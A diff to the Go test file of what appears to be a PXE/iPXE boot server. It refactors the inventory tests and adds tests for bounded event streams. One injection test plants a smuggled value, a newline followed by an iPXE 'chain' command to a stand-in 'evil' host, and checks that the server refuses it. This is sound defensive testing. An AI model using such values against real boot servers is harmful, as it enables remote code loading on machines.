@@ -18,7 +18,8 @@ import (
 	"testing/fstest"
 	"time"
 
-	"github.com/pxekit/pxekit/internal/testenv"
+	"github.com/pxekit/pxekit/macaddr"
+	"github.com/pxekit/pxekit/pxetest"
 )
 
 var (
@@ -26,8 +27,8 @@ var (
 	macB = net.HardwareAddr{0x52, 0x54, 0x00, 0x69, 0xd5, 0x92}
 )
 
-func testInventory() Inventory {
-	return Inventory{
+func testInventory() InventorySpec {
+	return InventorySpec{
 		Machines: []Machine{
 			{MAC: macA, Hostname: "node1", Profile: "create", Vars: map[string]string{"token": "s3cret"}},
 			{MAC: macB, Hostname: "node2", Profile: "join"},
@@ -49,8 +50,8 @@ func testInventory() Inventory {
 // and 192.0.2.11 → macB, as the DHCP server's lease table would.
 func testHandler(t *testing.T, assets fstest.MapFS) (*handler, *Bus) {
 	t.Helper()
-	inv := testInventory()
-	if err := inv.Validate(); err != nil {
+	inv, err := NewStaticInventory(testInventory())
+	if err != nil {
 		t.Fatal(err)
 	}
 	bus := &Bus{}
@@ -59,10 +60,21 @@ func testHandler(t *testing.T, assets fstest.MapFS) (*handler, *Bus) {
 		netip.MustParseAddr("192.0.2.11"): macB,
 	}
 	return &handler{
-		inv: &inv, assets: assets, bus: bus, baseURL: "http://192.0.2.1:8080",
+		inv: inv, assets: assets, bus: bus, baseURL: "http://192.0.2.1:8080",
 		macForIP: func(ip netip.Addr) (net.HardwareAddr, bool) { m, ok := leases[ip]; return m, ok },
 		log:      slog.New(slog.NewTextHandler(io.Discard, nil)),
 	}, bus
+}
+
+// staticInv is the test handler's inventory, to change.
+func staticInv(h *handler) *StaticInventory { return h.inv.(*StaticInventory) }
+
+// must fails the test on a refused inventory change.
+func must(t *testing.T, err error) {
+	t.Helper()
+	if err != nil {
+		t.Fatal(err)
+	}
 }
 
 func do(h http.Handler, method, target, remote string, hdr map[string]string) *httptest.ResponseRecorder {
@@ -124,7 +136,7 @@ func TestScriptMACFromLease(t *testing.T) {
 
 func TestDefaultProfileForUnknown(t *testing.T) {
 	h, _ := testHandler(t, nil)
-	h.inv.Default = "join"
+	must(t, staticInv(h).SetDefault("join"))
 	w := do(h, "GET", "/boot.ipxe?mac=52:54:00:00:00:01", "192.0.2.99:4000", nil)
 	if w.Code != 200 || !strings.Contains(w.Body.String(), "mode=join") {
 		t.Fatalf("default profile: %d %s", w.Code, w.Body)
@@ -136,13 +148,14 @@ func TestInjectionThroughInventoryRefused(t *testing.T) {
 	ctx, cancel := context.WithCancel(context.Background())
 	defer cancel()
 	events := bus.Subscribe(ctx)
-	h.inv.Machines[0].Vars["x"] = "a\nchain http://192.0.2.66/evil"
-	h.inv.Profiles["create"] = Profile{Kernel: "vmlinuz", Args: []string{"x={{.Vars.x}}"}}
+	inv := staticInv(h)
+	must(t, inv.SetProfile("create", Profile{Kernel: "vmlinuz", Args: []string{"x={{.Vars.x}}"}}))
+	must(t, inv.SetMachine(Machine{MAC: macA, Hostname: "node1", Profile: "create", Vars: map[string]string{"x": "a\nchain http://192.0.2.66/evil"}}))
 	w := do(h, "GET", "/boot.ipxe?mac=52:54:00:6b:13:e2", "192.0.2.10:4000", nil)
 	if w.Code != 500 || strings.Contains(w.Body.String(), "chain") {
 		t.Fatalf("injected value must not render: %d %q", w.Code, w.Body)
 	}
-	if e := <-events; e.Kind != EventDenied || e.MAC != macA.String() {
+	if e := <-events; e.Kind != EventDenied || !macaddr.Equal(e.MAC, macA) {
 		t.Fatalf("event %+v, want denied for %s", e, macA)
 	}
 }
@@ -157,7 +170,7 @@ func TestMachineFileOnlyToItsMachine(t *testing.T) {
 	if w.Code != 200 || w.Body.String() != "hostname: node1\ntoken: s3cret\n" {
 		t.Fatalf("own config: %d %q", w.Code, w.Body)
 	}
-	if e := <-events; e.Kind != EventConfigServed || e.MAC != macA.String() {
+	if e := <-events; e.Kind != EventConfigServed || !macaddr.Equal(e.MAC, macA) {
 		t.Fatalf("event %+v", e)
 	}
 	for _, remote := range []string{"192.0.2.11:4000", "192.0.2.99:4000"} {
@@ -187,7 +200,7 @@ func TestAssetsRangeETagAndEvents(t *testing.T) {
 	if w.Code != http.StatusPartialContent || !bytes.Equal(w.Body.Bytes(), data[1000:2000]) {
 		t.Fatalf("range: %d, %d bytes", w.Code, w.Body.Len())
 	}
-	if e := <-events; e.Kind != EventAssetSent || e.MAC != macA.String() || !strings.Contains(e.Detail, "1000 bytes") {
+	if e := <-events; e.Kind != EventAssetSent || !macaddr.Equal(e.MAC, macA) || !strings.Contains(e.Detail, "1000 bytes") {
 		t.Fatalf("event %+v", e)
 	}
 	full := do(h, "GET", "/assets/vmlinuz", "192.0.2.10:1", nil)
@@ -212,7 +225,7 @@ func TestAssetsRangeETagAndEvents(t *testing.T) {
 // curl, a real client, fetches byte ranges and whole files from a real
 // listener on loopback.
 func TestCurlRanges(t *testing.T) {
-	curl := testenv.RequireCmd(t, "curl", "curl")
+	curl := pxetest.RequireCmd(t, "curl", "curl")
 	data := make([]byte, 3<<20)
 	for i := range data {
 		data[i] = byte(rand.IntN(256))
@@ -254,8 +267,8 @@ func TestEventStream(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		bus.Publish(Event{MAC: macA.String(), Kind: EventAcked})
-		bus.Publish(Event{MAC: macB.String(), Kind: EventPhonedHome, Detail: "hi"})
+		bus.Publish(Event{MAC: macA, Kind: EventAcked})
+		bus.Publish(Event{MAC: macB, Kind: EventPhonedHome, Detail: "hi"})
 		sc := bufio.NewScanner(resp.Body)
 		var got Event
 		for sc.Scan() {
@@ -269,8 +282,57 @@ func TestEventStream(t *testing.T) {
 		}
 		cancel()
 		resp.Body.Close()
-		if got.MAC != macB.String() || got.Kind != EventPhonedHome || got.Detail != "hi" {
+		if !macaddr.Equal(got.MAC, macB) || got.Kind != EventPhonedHome || got.Detail != "hi" {
 			t.Fatalf("sse=%v: first event %+v, want macB phoned-home (filtered)", sse, got)
+		}
+	}
+}
+
+// ?for= and ?until= bound a stream: it ends by itself; a bad value is
+// refused, saying what it wants.
+func TestEventStreamFor(t *testing.T) {
+	h, _ := testHandler(t, nil)
+	srv := httptest.NewServer(h)
+	defer srv.Close()
+	resp, err := http.Get(srv.URL + "/events?for=200ms")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := io.ReadAll(resp.Body); err != nil {
+		t.Errorf("a bounded stream did not end cleanly: %v", err)
+	}
+	resp.Body.Close()
+	h2, bus := testHandler(t, nil)
+	srv2 := httptest.NewServer(h2)
+	defer srv2.Close()
+	done := make(chan []byte)
+	go func() {
+		resp, err := http.Get(srv2.URL + "/events?until=phoned-home&mac=" + macB.String())
+		if err != nil {
+			done <- nil
+			return
+		}
+		defer resp.Body.Close()
+		b, _ := io.ReadAll(resp.Body)
+		done <- b
+	}()
+	for got := false; !got; {
+		select {
+		case b := <-done:
+			if n := strings.Count(string(b), "\n"); n != 2 || !strings.Contains(string(b), `"kind":"phoned-home"`) {
+				t.Errorf("until=phoned-home ended with %d events:\n%s\nwant the acked and the phoned-home of macB", n, b)
+			}
+			got = true
+		case <-time.After(50 * time.Millisecond):
+			bus.Publish(Event{MAC: macA, Kind: EventPhonedHome}) // another machine's: the stream goes on
+			bus.Publish(Event{MAC: macB, Kind: EventAcked})
+			bus.Publish(Event{MAC: macB, Kind: EventPhonedHome})
+		}
+	}
+	for _, bad := range []string{"for=soon", "for=-1s", "for=0", "until=rebooted"} {
+		w := do(h, "GET", "/events?"+bad, "192.0.2.10:4000", nil)
+		if w.Code != http.StatusBadRequest || !strings.Contains(w.Body.String(), strings.Split(bad, "=")[0]+": ") {
+			t.Errorf("for=%s: %d %q, want 400 saying what it wants", bad, w.Code, w.Body.String())
 		}
 	}
 }
@@ -280,13 +342,22 @@ func TestInventoryValidate(t *testing.T) {
 	inv.Machines = append(inv.Machines, Machine{MAC: macA, Profile: "nope"}, Machine{MAC: net.HardwareAddr{1, 2}, Profile: "join"})
 	inv.Default = "missing"
 	inv.Profiles["empty"] = Profile{}
-	err := inv.Validate()
-	if err == nil {
-		t.Fatal("want errors")
+	errs := inv.Validate()
+	var fields []string
+	for _, e := range errs {
+		fields = append(fields, e.Field)
 	}
-	for _, s := range []string{"machines[2].mac: 52:54:00:6b:13:e2 is listed twice", `machines[2].profile: "nope"`, "machines[3].mac", `default: "missing"`, "profiles[empty]: needs a kernel or a script"} {
+	if got, want := strings.Join(fields, " "), "machines[2].mac machines[2].profile machines[3].mac default profiles[empty]"; got != want {
+		t.Errorf("error paths %q, want %q", got, want)
+	}
+	err := errs.ToAggregate()
+	for _, s := range []string{`machines[2].mac: Duplicate value: "52:54:00:6b:13:e2 (also machines[0])"`, `machines[2].profile: Invalid value: "nope": is not a profile (have create, empty, join)`,
+		"machines[3].mac", `default: Invalid value: "missing"`, "profiles[empty]: Required value: needs a kernel or a script"} {
 		if !strings.Contains(err.Error(), s) {
 			t.Errorf("error lacks %q: %v", s, err)
 		}
+	}
+	if _, err := NewStaticInventory(inv); err == nil || !strings.Contains(err.Error(), "machines[3].mac") {
+		t.Errorf("NewStaticInventory accepted an invalid spec: %v", err)
 	}
 }
